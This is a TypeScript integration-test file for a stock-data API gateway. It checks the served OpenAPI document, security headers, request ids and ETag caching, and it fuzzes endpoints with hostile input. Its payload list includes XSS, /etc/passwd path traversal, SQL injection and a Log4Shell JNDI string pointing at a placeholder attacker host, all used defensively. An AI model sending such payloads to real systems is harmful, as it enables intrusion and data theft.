import { randomUUID } from 'node:crypto';
import { Validator } from '@seriousme/openapi-schema-validator';
import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import type { LocalStack } from '../../infra/local/local-stack.js';
import { buildOpenApiDocument } from '../../lib/api/openapi.js';
import { API_STAGE, ROUTES } from '../../lib/api/routes.js';
import { SECURITY_HEADERS } from '../../lib/api/security-headers.js';
import { parseBatchRequest, parseSearchQuery } from '../../lib/requests.js';
import { SymbolSchema } from '../../lib/symbols.js';
import { startContainerStack } from '../support/container-stack.js';
import { captureOutput } from '../support/stdout-capture.js';

/**
 * The HTTP contract through the local gateway: the OpenAPI document it serves, the security headers
 * and request ids on every answer, client caching, and hostile input. (Every answer here is also
 * checked against the OpenAPI document by the shared fetch hook, test/support/contract-check.ts.)
 */
const run = randomUUID().slice(0, 8);
const CLIENT_KEY = `contract-client-${run}`;
let stack: LocalStack;
const output = captureOutput();

type Call = { method?: string; headers?: Record<string, string>; body?: string; key?: string | null };

async function call(path: string, init: Call = {}) {
  const key = init.key === undefined ? CLIENT_KEY : init.key;
  const response = await fetch(`${stack.baseUrl}${path}`, {
    method: init.method ?? 'GET',
    headers: { ...(key === null ? {} : { 'x-api-key': key }), ...init.headers },
    ...(init.body === undefined ? {} : { body: init.body }),
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}
type Answer = Awaited<ReturnType<typeof call>>;

const batch = (body: string, contentType?: string) =>
  call('/api/data/batch/prices', {
    method: 'POST',
    body,
    headers: contentType === undefined ? {} : { 'content-type': contentType },
  });

function everyProvider(mode: 'down' | 'throttled') {
  stack.sandbox.setKnobs(Object.fromEntries(Object.keys(stack.sandbox.baseUrls).map((p) => [p, { mode }])));
}

beforeAll(async () => {
  stack = await startContainerStack('contract', {
    LOCAL_API_KEY: CLIENT_KEY,
    RETRY_BASE_DELAY: '0.02',
    RETRY_MAX_ATTEMPTS: '2',
    CIRCUIT_BREAKER_ENABLED: 'false',
  });
});

afterAll(async () => {
  output.restore();
  await stack?.close();
});

beforeEach(() => {
  stack.sandbox.resetKnobs();
});

describe('GET /api/data/openapi.json', () => {
  it('serves the document the code builds, a valid OpenAPI 3.1 document covering every route', async () => {
    const { status, headers, text } = await call('/api/data/openapi.json');
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('application/json');
    const served = JSON.parse(text);
    expect(served).toEqual(buildOpenApiDocument({ routes: ROUTES, stage: API_STAGE }));
    const validator = new Validator();
    expect(await validator.validate(served)).toEqual({ valid: true });
    const operationIds = Object.values(
      served.paths as Record<string, Record<string, { operationId: string }>>,
    )
      .flatMap((item) => Object.values(item).map((operation) => operation.operationId))
      .sort();
    expect(operationIds).toEqual(ROUTES.map((route) => route.id).sort());
  });

  it('needs the client key like every client route', async () => {
    expect((await call('/api/data/openapi.json', { key: null })).status).toBe(403);
  });
});

describe('headers on every answer', () => {
  function expectSecurityHeaders(answer: Answer, label: string) {
    for (const [name, value] of Object.entries(SECURITY_HEADERS))
      expect(answer.headers.get(name), `${label}: ${name}`).toBe(value);
    // No banner: neither the local gateway nor Node names itself.
    expect(answer.headers.get('server'), label).toBeNull();
    expect(answer.headers.get('x-powered-by'), label).toBeNull();
    expect(answer.headers.get('x-amzn-requestid'), label).toMatch(/^[0-9a-f-]{36}$/);
  }

  it('carries the OWASP headers on 200, 304 and every problem, whoever answered it', async () => {
    const quote = await call('/api/data/stock/IBM');
    const answers: [string, Answer][] = [
      ['200 quote', quote],
      [
        '304',
        await call('/api/data/stock/IBM', {
          headers: { 'if-none-match': String(quote.headers.get('etag')) },
        }),
      ],
      ['200 reading', await call('/api/data/health')],
      ['400 from the function', await call('/api/data/stock/%3Cscript%3E')],
      ['400 from the gateway', await call('/api/data/search')],
      ['403 no key', await call('/api/data/stock/IBM', { key: null })],
      ['403 unknown route', await call('/api/data/nothing-here')],
      ['404', await call('/api/data/stock/ZZZNOPE')],
      ['415', await batch('{"symbols":["IBM"]}', 'text/plain')],
      [
        '431 from the gateway',
        await call('/api/data/stock/IBM', { headers: { 'x-pad': 'x'.repeat(20_000) } }),
      ],
    ];
    everyProvider('down');
    answers.push(['503', await call('/api/data/stock/NFLX')]);
    for (const [label, answer] of answers) {
      expectSecurityHeaders(answer, label);
      if (answer.status >= 400) {
        expect(answer.headers.get('content-type'), label).toBe('application/problem+json');
        expect(answer.headers.get('cache-control'), label).toBe('no-store');
        // The request id in the body is the one in the header: one id to quote to an operator.
        expect(JSON.parse(answer.text).requestId, label).toBe(answer.headers.get('x-amzn-requestid'));
      }
    }
    expect(answers.map(([, answer]) => answer.status)).toEqual([
      200, 304, 200, 400, 400, 403, 403, 404, 415, 431, 503,
    ]);
  });

  it('puts the request id of the answer in every log line of that request', async () => {
    everyProvider('down');
    // stdout and stderr are captured apart: the request's lines are those not there before it.
    const before = new Set(output.lines());
    const answer = await call('/api/data/company/ORCL');
    const requestId = answer.headers.get('x-amzn-requestid');
    const logLines = output
      .lines()
      .filter((line) => !before.has(line))
      .flatMap((line) => {
        try {
          const parsed = JSON.parse(line) as Record<string, unknown>;
          return 'level' in parsed ? [parsed] : [];
        } catch {
          return [];
        }
      });
    expect(answer.status).toBe(503);
    expect(JSON.parse(answer.text).requestId).toBe(requestId);
    // The failed provider calls are logged; each line names API Gateway's id and Lambda's own.
    expect(logLines.length).toBeGreaterThan(0);
    for (const line of logLines) {
      expect(line.correlation_id).toBe(requestId);
      expect(line.function_request_id).toMatch(/^[0-9a-f-]{36}$/);
    }
  });
});

describe('client caching through the local gateway', () => {
  it('answers If-None-Match with the current ETag (alone, in a list, weak, or *) with 304 and no body', async () => {
    const first = await call('/api/data/company/IBM');
    const etag = String(first.headers.get('etag'));
    expect(first.status).toBe(200);
    expect(etag).toMatch(/^"[^"]+"$/);
    expect(first.headers.get('cache-control')).toMatch(/^private, max-age=\d+$/);
    for (const ask of [etag, `"stale", ${etag}`, `W/${etag}`, '*']) {
      const again = await call('/api/data/company/IBM', { headers: { 'If-None-Match': ask } });
      expect(again.status, ask).toBe(304);
      expect(again.text, ask).toBe('');
      // No content, so no Content-Type (RFC 9110 §15.4.5), from the function nor the gateway.
      expect(again.headers.get('content-type'), ask).toBeNull();
      expect(again.headers.get('etag'), ask).toBe(etag);
      expect(again.headers.get('cache-control'), ask).toMatch(/^private, max-age=\d+$/);
    }
    const other = await call('/api/data/company/IBM', { headers: { 'If-None-Match': '"not-it"' } });
    expect(other.status).toBe(200);
    expect(JSON.parse(other.text).data).toEqual(JSON.parse(first.text).data);
  });
});

describe('hostile input', () => {
  /** What attackers and broken clients send, each then varied by fast-check. */
  const payloads = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '../../../etc/passwd',
    '..%2F..%2Fetc%2Fpasswd',
    "' OR '1'='1' --",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload, verbatim
    '${jndi:ldap://attacker/x}',
    '\u0000\u0001\u001b[31m',
    '\u202eevil\u202c',
    '株式会社🚀🚀',
    'A'.repeat(300),
    '%E0%A4%A',
  ];
  const hostile = fc
    .tuple(fc.constantFrom(...payloads), fc.string({ unit: 'binary', maxLength: 40 }), fc.boolean())
    .map(([payload, noise, before]) => (before ? `${noise}${payload}` : `${payload}${noise}`));

  async function expectRefused(answer: Answer, raw: string) {
    expect(answer.status, raw).toBeGreaterThanOrEqual(400);
    expect(answer.status, raw).toBeLessThan(500);
    expect(answer.headers.get('content-type'), raw).toBe('application/problem+json');
    expect(answer.headers.get('x-content-type-options'), raw).toBe('nosniff');
    // Bounded and stripped: the client's text never comes back as it was sent.
    expect(answer.text.includes(raw), raw).toBe(false);
  }

  const invalid = <T>(parse: () => T) => {
    try {
      parse();
      return false;
    } catch {
      return true;
    }
  };

  it('refuses hostile symbols with 4xx problem+json, never a 5xx, never echoing them', async () => {
    await fc.assert(
      fc.asyncProperty(
        hostile.filter((raw) => !z.safeParse(SymbolSchema, raw).success),
        fc.boolean(),
        async (raw, keepPercent) => {
          // Percent signs kept raw send what the input spells, `%E0%A4%A` included: not valid UTF-8.
          const encoded = encodeURIComponent(raw);
          const path = keepPercent ? encoded.replaceAll('%25', '%') : encoded;
          await expectRefused(await call(`/api/data/stock/${path}`), raw);
        },
      ),
      { numRuns: 60 },
    );
    const huge = 'A'.repeat(30_000);
    await expectRefused(await call(`/api/data/company/${huge}`), huge);
  });

  it('refuses hostile searches with 4xx problem+json', async () => {
    await fc.assert(
      fc.asyncProperty(
        hostile.filter((raw) => invalid(() => parseSearchQuery({ q: raw }))),
        async (raw) => expectRefused(await call(`/api/data/search?q=${encodeURIComponent(raw)}`), raw),
      ),
      { numRuns: 60 },
    );
  });

  it('refuses hostile batch bodies and wrong content types with 4xx problem+json', async () => {
    const body = fc.oneof(
      hostile,
      fc.json(),
      hostile.map((raw) => JSON.stringify({ symbols: ['IBM', raw] })),
      fc.array(hostile, { minLength: 1, maxLength: 5 }).map((symbols) => JSON.stringify({ symbols })),
    );
    const contentType = fc.constantFrom(
      'application/json',
      'application/json; charset=utf-8',
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      undefined,
    );
    await fc.assert(
      fc.asyncProperty(
        fc.tuple(body, contentType).filter(([raw, type]) => invalid(() => parseBatchRequest(raw, type))),
        async ([raw, type]) => {
          const answer = await batch(raw, type);
          await expectRefused(answer, raw.length >= 8 ? raw : `${raw}\u0000never`);
        },
      ),
      { numRuns: 80 },
    );
  });

  it('refuses a 2 MB body of symbols with a 400 that names the limit, not the symbols', async () => {
    const symbols = Array.from({ length: 250_000 }, (_, i) => `S${i}`);
    const answer = await batch(JSON.stringify({ symbols }), 'application/json');
    expect(answer.status).toBe(400);
    expect(JSON.parse(answer.text).issues).toEqual(['symbols: symbols must list at most 100 symbols']);
  });
});
